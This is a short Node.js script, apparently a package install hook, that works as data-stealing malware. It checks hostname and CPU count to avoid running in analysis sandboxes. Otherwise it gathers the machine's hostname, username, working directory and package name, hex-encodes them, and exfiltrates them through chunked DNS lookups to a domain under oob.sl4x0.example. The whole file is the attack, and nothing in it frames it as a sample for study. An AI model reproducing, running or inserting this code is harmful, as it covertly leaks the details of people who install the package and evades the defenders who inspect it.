const dns = require('dns');
const os = require('os');
const path = require('path');

const sanitize = (value) => String(value).replace(/[^a-zA-Z0-9]/g, '-').slice(0, 50);

function isSandbox() {
  const names = ['sandbox', 'malware', 'analysis', 'cuckoo'];
  return names.some((name) => os.hostname().toLowerCase().includes(name)) || os.cpus().length < 2;
}

if (!isSandbox()) {
  const pkg = require(path.join(__dirname, 'package.json'));
  const data = { h: os.hostname(), u: os.userInfo().username, d: process.cwd(), n: pkg.name };
  const hex = Buffer.from(JSON.stringify(data)).toString('hex');
  const chunks = hex.match(/.{1,60}/g) || [];
  const id = sanitize(Date.now().toString(36));
  chunks.forEach((chunk, index) => {
    dns.resolve(index + '.' + chunk + '.' + id + '.oob.sl4x0.example', 'A', () => {});
  });
}
